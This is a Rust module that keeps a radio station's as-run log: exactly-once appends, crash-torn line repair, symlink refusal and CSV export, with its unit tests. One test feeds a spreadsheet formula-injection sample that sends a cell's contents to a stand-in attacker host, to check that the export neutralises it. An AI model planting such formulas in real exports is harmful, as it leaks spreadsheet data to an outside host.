//! The as-run log: every item that airs, appended to `data/state/history.jsonl` as its
//! air start passes: one JSON object per line ([`AsRunEntry`]), what royalty reports
//! and programme logs are made from (`station history --csv`).
//!
//! Exactly once: an entry is appended only when its air start is later than the last
//! entry's in the file (read back from the file's tail when the streamer opens it), and
//! every append is fsynced before the streamer's state is saved. So a streamer killed
//! between the two (even `kill -9`) neither loses nor repeats an item when it comes
//! back: the items that started while it was down (the lookahead it had published
//! plays on) are logged then. A last line cut short by a crash is dropped on open.

use crate::error::{Error, Result};
use crate::library::ItemKind;
use crate::station::{atomic, text};
use chrono::{DateTime, SecondsFormat, Utc};
use serde::{Deserialize, Serialize};
use std::io::{Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};

/// File name of the as-run log inside `data/state/`.
pub const HISTORY_FILE: &str = "history.jsonl";

/// Longest line read back (bytes): a longer one is not an entry this program wrote.
const MAX_LINE: usize = 64 * 1024;

/// One aired item.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AsRunEntry {
    /// Air time of its first segment (UTC, RFC 3339 with milliseconds).
    #[serde(with = "millis")]
    pub air_start: DateTime<Utc>,
    /// When it ends on air (UTC, milliseconds): its start plus what airs of it (a hard
    /// block start cuts it short).
    #[serde(with = "millis")]
    pub air_end: DateTime<Utc>,
    /// Item id.
    pub item_id: String,
    /// Track or jingle.
    pub kind: ItemKind,
    /// Title.
    pub title: String,
    /// Artist, when known.
    #[serde(default)]
    pub artist: Option<String>,
    /// Album, when the source has it.
    #[serde(default)]
    pub album: Option<String>,
    /// ISRC, when the source has it.
    #[serde(default)]
    pub isrc: Option<String>,
    /// Seconds on air (`air_end - air_start`).
    pub duration: f64,
    /// The programme block it aired in.
    pub block: String,
    /// Media sequence number of its first segment (RFC 8216 section 4.3.3.2).
    pub media_sequence: u64,
}

mod millis {
    use chrono::{DateTime, SecondsFormat, Utc};
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(t: &DateTime<Utc>, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&t.to_rfc3339_opts(SecondsFormat::Millis, true))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<DateTime<Utc>, D::Error> {
        let s = String::deserialize(d)?;
        DateTime::parse_from_rfc3339(&s)
            .map(|t| t.with_timezone(&Utc))
            .map_err(serde::de::Error::custom)
    }
}

/// The as-run log of one station, open for appending.
#[derive(Debug)]
pub struct AsRunLog {
    path: PathBuf,
    last_start: Option<DateTime<Utc>>,
    /// An append failed: the file may end in a torn line, cut before the next append.
    check_tail: bool,
}

impl AsRunLog {
    /// Opens (creating) the log at `path`: reads the last entry's air start from the
    /// tail, and cuts off a last line a crash left unfinished.
    ///
    /// Errors: [`Error::Io`] when the file cannot be read or repaired, or `path` is a
    /// symbolic link ([`atomic::open_no_follow`]).
    pub fn open(path: &Path) -> Result<AsRunLog> {
        let mut log = AsRunLog {
            path: path.to_path_buf(),
            last_start: None,
            check_tail: false,
        };
        let mut f = match atomic::open_no_follow(
            path,
            std::fs::OpenOptions::new().read(true).write(true),
        ) {
            Ok(f) => f,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(log),
            Err(e) => return Err(Error::io(path, e)),
        };
        let tail = cut_torn_tail(&mut f, path)?;
        log.last_start = tail
            .split(|b| *b == b'\n')
            .rev()
            .filter(|l| !l.is_empty())
            .find_map(|l| serde_json::from_slice::<AsRunEntry>(l).ok())
            .map(|e| e.air_start);
        Ok(log)
    }

    /// Air start of the newest entry, if any.
    pub fn last_start(&self) -> Option<DateTime<Utc>> {
        self.last_start
    }

    /// Whether an item starting at `air_start` is not logged yet. Compared in whole
    /// milliseconds, the precision the log keeps (two items never start within one).
    pub fn is_new(&self, air_start: DateTime<Utc>) -> bool {
        self.last_start
            .is_none_or(|l| air_start.timestamp_millis() > l.timestamp_millis())
    }

    /// Appends the entries that are new ([`AsRunLog::is_new`]), in air-start order,
    /// and fsyncs. Returns how many were appended. Each entry is one line written whole
    /// (one `write_all`, its newline included); when a write fails the file is cut back
    /// to the length it had before this call, so a torn line never joins the next
    /// entry (and a cut that failed too is made before the next append).
    ///
    /// Errors: [`Error::Io`] (also when `path` is a symbolic link); nothing is counted
    /// as logged then, so the next call tries the same entries again.
    pub fn append(&mut self, entries: &[AsRunEntry]) -> Result<usize> {
        let mut fresh: Vec<&AsRunEntry> = entries
            .iter()
            .filter(|e| self.is_new(e.air_start))
            .collect();
        fresh.sort_by_key(|e| e.air_start);
        fresh.dedup_by_key(|e| e.air_start.timestamp_millis());
        if fresh.is_empty() {
            return Ok(0);
        }
        let mut lines = Vec::with_capacity(fresh.len());
        for e in &fresh {
            let mut line = serde_json::to_vec(e)
                .map_err(|err| Error::io(&self.path, std::io::Error::other(err.to_string())))?;
            line.push(b'\n');
            lines.push(line);
        }
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| Error::io(dir, e))?;
        }
        let mut f = atomic::open_append(&self.path)?;
        if self.check_tail {
            cut_torn_tail(&mut f, &self.path)?;
            self.check_tail = false;
        }
        let start = f.metadata().map_err(|e| Error::io(&self.path, e))?.len();
        let written = write_lines(&mut f, start, &lines).and_then(|()| f.sync_all());
        if let Err(e) = written {
            self.check_tail = true;
            return Err(Error::io(&self.path, e));
        }
        self.last_start = fresh.last().map(|e| e.air_start);
        Ok(fresh.len())
    }
}

/// Cuts an unfinished last line (no newline: what a crash mid-append leaves) off the
/// log `f` (at `path`) and fsyncs; returns the complete lines of its last
/// `2 * MAX_LINE` bytes (or fewer), newest last.
fn cut_torn_tail(f: &mut std::fs::File, path: &Path) -> Result<Vec<u8>> {
    let len = f.metadata().map_err(|e| Error::io(path, e))?.len();
    let from = len.saturating_sub(MAX_LINE as u64 * 2);
    f.seek(SeekFrom::Start(from))
        .map_err(|e| Error::io(path, e))?;
    let mut tail = Vec::new();
    f.read_to_end(&mut tail).map_err(|e| Error::io(path, e))?;
    if !tail.is_empty() && tail.last() != Some(&b'\n') {
        let keep = tail.iter().rposition(|b| *b == b'\n').map_or(0, |p| p + 1);
        let cut = from + keep as u64;
        tracing::warn!(
            "{}: dropping an unfinished last line ({} bytes) a crash or failed write left",
            path.display(),
            len - cut
        );
        f.set_len(cut).map_err(|e| Error::io(path, e))?;
        f.sync_all().map_err(|e| Error::io(path, e))?;
        tail.truncate(keep);
    }
    Ok(tail)
}

/// An append target whose length can be cut back (a file; a fake in the tests).
trait SetLen {
    /// Truncates to `len` bytes.
    fn set_len(&self, len: u64) -> std::io::Result<()>;
}

impl SetLen for std::fs::File {
    fn set_len(&self, len: u64) -> std::io::Result<()> {
        std::fs::File::set_len(self, len)
    }
}

/// Appends `lines` (each a whole line, its `\n` included) to `out`, which holds `start`
/// bytes ending in a newline (or none): each line in one `write_all`. When a write
/// fails, `out` is cut back to `start`, so no part of these lines is left to swallow
/// the next append.
///
/// Errors: the write's error (saying so when the cut back failed as well).
fn write_lines<W: Write + SetLen>(
    out: &mut W,
    start: u64,
    lines: &[Vec<u8>],
) -> std::io::Result<()> {
    let Err(e) = lines.iter().try_for_each(|l| out.write_all(l)) else {
        return Ok(());
    };
    match out.set_len(start) {
        Ok(()) => Err(e),
        Err(cut) => Err(std::io::Error::new(
            e.kind(),
            format!("{e}; cutting the torn line off failed too: {cut}"),
        )),
    }
}

/// What [`read`] found.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct History {
    /// Entries with `since <= air_start < until`, in file order.
    pub entries: Vec<AsRunEntry>,
    /// Lines that are not entries (numbers, 1-based), skipped.
    pub bad_lines: Vec<usize>,
}

/// Reads the entries of the log at `path` that started in `[since, until)` (either
/// bound open when `None`). A missing file is an empty log; lines that are not entries
/// are skipped and reported, never fatal.
///
/// Errors: [`Error::Io`] when the file cannot be read or `path` is a symbolic link.
pub fn read(
    path: &Path,
    since: Option<DateTime<Utc>>,
    until: Option<DateTime<Utc>>,
) -> Result<History> {
    use std::io::BufRead;
    let mut out = History::default();
    let f = match atomic::open_no_follow(path, std::fs::OpenOptions::new().read(true)) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(out),
        Err(e) => return Err(Error::io(path, e)),
    };
    let mut reader = std::io::BufReader::new(f);
    let mut line = Vec::new();
    let mut n = 0;
    loop {
        line.clear();
        let got = reader
            .by_ref()
            .take(MAX_LINE as u64 + 1)
            .read_until(b'\n', &mut line)
            .map_err(|e| Error::io(path, e))?;
        if got == 0 {
            break;
        }
        n += 1;
        if line.len() > MAX_LINE {
            out.bad_lines.push(n);
            // Skip the rest of an over-long line.
            let mut rest = Vec::new();
            reader
                .read_until(b'\n', &mut rest)
                .map_err(|e| Error::io(path, e))?;
            continue;
        }
        let text = line.strip_suffix(b"\n").unwrap_or(&line);
        if text.iter().all(u8::is_ascii_whitespace) {
            continue;
        }
        match serde_json::from_slice::<AsRunEntry>(text) {
            Ok(e) => {
                if since.is_none_or(|s| e.air_start >= s) && until.is_none_or(|u| e.air_start < u) {
                    out.entries.push(e);
                }
            }
            Err(_) => out.bad_lines.push(n),
        }
    }
    Ok(out)
}

/// Writes `entries` as CSV with a header row (`air_start,air_end,duration,kind,title,
/// artist,album,isrc,block,item_id,media_sequence`; times RFC 3339 UTC with
/// milliseconds, duration in seconds), quoted by the `csv` crate (RFC 4180). Every text
/// cell (title, artist, album, ISRC, block, item id: strangers' tags) goes through
/// [`text::csv_cell`], so a cell opening with `=`, `+`, `-`, `@`, TAB or CR gets a leading
/// `'` and a spreadsheet shows it as text instead of running it as a formula (OWASP, CSV
/// Injection).
///
/// Errors: [`Error::Io`] naming `what` (the output) when writing fails.
pub fn write_csv(entries: &[AsRunEntry], out: impl Write, what: &Path) -> Result<()> {
    let mut w = csv::Writer::from_writer(out);
    let io = |e: csv::Error| Error::io(what, std::io::Error::other(e.to_string()));
    let cell = |s: &str| text::csv_cell(s).into_owned();
    w.write_record([
        "air_start",
        "air_end",
        "duration",
        "kind",
        "title",
        "artist",
        "album",
        "isrc",
        "block",
        "item_id",
        "media_sequence",
    ])
    .map_err(io)?;
    for e in entries {
        w.write_record([
            e.air_start.to_rfc3339_opts(SecondsFormat::Millis, true),
            e.air_end.to_rfc3339_opts(SecondsFormat::Millis, true),
            format!("{:.3}", e.duration),
            match e.kind {
                ItemKind::Track => "track".into(),
                ItemKind::Jingle => "jingle".into(),
            },
            cell(&e.title),
            cell(e.artist.as_deref().unwrap_or_default()),
            cell(e.album.as_deref().unwrap_or_default()),
            cell(e.isrc.as_deref().unwrap_or_default()),
            cell(&e.block),
            cell(&e.item_id),
            e.media_sequence.to_string(),
        ])
        .map_err(io)?;
    }
    w.flush().map_err(|e| Error::io(what, e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    fn entry(min: u32, title: &str) -> AsRunEntry {
        let start = Utc.with_ymd_and_hms(2026, 12, 1, 9, min, 0).unwrap();
        AsRunEntry {
            air_start: start + chrono::Duration::milliseconds(123),
            air_end: start + chrono::Duration::seconds(180),
            item_id: format!("t-{min}"),
            kind: ItemKind::Track,
            title: title.into(),
            artist: Some("Artist, \"The\"".into()),
            album: None,
            isrc: Some("USRC17607839".into()),
            duration: 179.877,
            block: "Morning".into(),
            media_sequence: u64::from(min) * 30,
        }
    }

    #[test]
    fn appends_each_item_once_across_reopening_and_a_torn_last_line() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join(HISTORY_FILE);
        let mut log = AsRunLog::open(&p).unwrap();
        assert_eq!(log.append(&[entry(0, "a"), entry(3, "b")]).unwrap(), 2);
        assert_eq!(log.append(&[entry(3, "b")]).unwrap(), 0, "already logged");
        // The log keeps milliseconds; the air clock has microseconds: reopened, the same
        // item (its start a few microseconds past the logged millisecond) is not new.
        let mut precise = entry(3, "b");
        precise.air_start += chrono::Duration::microseconds(456);
        assert!(!AsRunLog::open(&p).unwrap().is_new(precise.air_start));
        // A crash mid-append leaves half a line.
        let mut f = std::fs::OpenOptions::new().append(true).open(&p).unwrap();
        f.write_all(br#"{"air_start":"2026-12-01T09:06:00.123Z","air_e"#)
            .unwrap();
        drop(f);
        let mut log = AsRunLog::open(&p).unwrap();
        assert_eq!(log.last_start(), Some(entry(3, "b").air_start));
        assert_eq!(log.append(&[entry(3, "b"), entry(6, "c")]).unwrap(), 1);
        let h = read(&p, None, None).unwrap();
        assert!(h.bad_lines.is_empty(), "{:?}", h.bad_lines);
        let titles: Vec<&str> = h.entries.iter().map(|e| e.title.as_str()).collect();
        assert_eq!(titles, ["a", "b", "c"]);
        let text = std::fs::read_to_string(&p).unwrap();
        assert!(
            text.contains(r#""air_start":"2026-12-01T09:00:00.123Z""#),
            "{text}"
        );
        // Time filters: since inclusive, until exclusive.
        let h = read(
            &p,
            Some(entry(3, "").air_start),
            Some(entry(6, "").air_start),
        )
        .unwrap();
        assert_eq!(h.entries.len(), 1);
        assert_eq!(h.entries[0].title, "b");
    }

    /// A file that takes `room` more bytes, then fails (a full disk mid-line).
    struct FullDisk {
        bytes: std::cell::RefCell<Vec<u8>>,
        room: usize,
    }

    impl Write for FullDisk {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            if self.room == 0 {
                return Err(std::io::Error::other("No space left on device"));
            }
            let n = buf.len().min(self.room);
            self.room -= n;
            self.bytes.borrow_mut().extend_from_slice(&buf[..n]);
            Ok(n)
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    impl SetLen for FullDisk {
        fn set_len(&self, len: u64) -> std::io::Result<()> {
            self.bytes.borrow_mut().truncate(len as usize);
            Ok(())
        }
    }

    fn line(e: &AsRunEntry) -> Vec<u8> {
        let mut l = serde_json::to_vec(e).unwrap();
        l.push(b'\n');
        l
    }

    #[test]
    fn a_write_failing_mid_line_is_cut_back_so_the_next_entry_stays_whole() {
        let before = line(&entry(0, "a"));
        let (b, c) = (line(&entry(3, "b")), line(&entry(6, "c")));
        let mut disk = FullDisk {
            bytes: std::cell::RefCell::new(before.clone()),
            // All of "b", half of "c".
            room: b.len() + c.len() / 2,
        };
        let err = write_lines(&mut disk, before.len() as u64, &[b.clone(), c.clone()]).unwrap_err();
        assert!(err.to_string().contains("No space"), "{err}");
        assert_eq!(
            *disk.bytes.borrow(),
            before,
            "cut back to before the append"
        );
        // The retry (room again) appends whole lines after the last newline.
        disk.room = usize::MAX;
        write_lines(&mut disk, before.len() as u64, &[b, c]).unwrap();
        let text = String::from_utf8(disk.bytes.into_inner()).unwrap();
        let titles: Vec<String> = text
            .lines()
            .map(|l| serde_json::from_str::<AsRunEntry>(l).unwrap().title)
            .collect();
        assert_eq!(titles, ["a", "b", "c"]);
    }

    #[test]
    fn a_symlinked_history_is_refused_naming_it_and_its_target_is_untouched() {
        let d = tempfile::tempdir().unwrap();
        let elsewhere = d.path().join("elsewhere.txt");
        std::fs::write(&elsewhere, b"precious, no newline").unwrap();
        let p = d.path().join(HISTORY_FILE);
        let mut log = AsRunLog::open(&p).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &p).unwrap();
        for msg in [
            log.append(&[entry(0, "a")]).unwrap_err().to_string(),
            AsRunLog::open(&p).unwrap_err().to_string(),
            read(&p, None, None).unwrap_err().to_string(),
        ] {
            assert!(msg.contains(HISTORY_FILE), "{msg}");
            assert!(msg.contains("symbolic link"), "{msg}");
        }
        // Neither appended to nor "repaired" (cut at its last newline).
        assert_eq!(std::fs::read(&elsewhere).unwrap(), b"precious, no newline");
    }

    #[test]
    fn bad_lines_are_skipped_and_counted() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join(HISTORY_FILE);
        let mut text = serde_json::to_string(&entry(0, "a")).unwrap();
        text.push_str("\nnot json\n\n");
        text.push_str(&"x".repeat(MAX_LINE + 10));
        text.push('\n');
        text.push_str(&serde_json::to_string(&entry(3, "b")).unwrap());
        text.push('\n');
        std::fs::write(&p, text).unwrap();
        let h = read(&p, None, None).unwrap();
        assert_eq!(h.entries.len(), 2);
        assert_eq!(h.bad_lines, [2, 4]);
    }

    #[test]
    fn csv_has_a_header_and_quotes_what_needs_it() {
        let mut out = Vec::new();
        write_csv(&[entry(0, "Hello, World")], &mut out, Path::new("-")).unwrap();
        let text = String::from_utf8(out).unwrap();
        let mut lines = text.lines();
        assert_eq!(
            lines.next().unwrap(),
            "air_start,air_end,duration,kind,title,artist,album,isrc,block,item_id,media_sequence"
        );
        assert_eq!(
            lines.next().unwrap(),
            r#"2026-12-01T09:00:00.123Z,2026-12-01T09:03:00.000Z,179.877,track,"Hello, World","Artist, ""The""",,USRC17607839,Morning,t-0,0"#
        );
    }

    #[test]
    fn csv_cells_that_open_a_formula_are_quoted_as_text() {
        let mut e = entry(0, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
        e.artist = Some("+1 Artist".into());
        e.album = Some("-2 Album".into());
        e.isrc = Some("@SUM(A1)".into());
        e.block = "\tTabbed".into();
        e.item_id = "\rcr".into();
        let mut out = Vec::new();
        write_csv(&[e], &mut out, Path::new("-")).unwrap();
        let mut r = csv::Reader::from_reader(out.as_slice());
        let row = r.records().next().unwrap().unwrap();
        let texts: Vec<&str> = (4..10).map(|i| &row[i]).collect();
        assert_eq!(
            texts,
            [
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'+1 Artist",
                "'-2 Album",
                "'@SUM(A1)",
                "'\tTabbed",
                "'\rcr",
            ]
        );
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a CSV cell opens a formula: {cell:?}"
            );
        }
    }
}
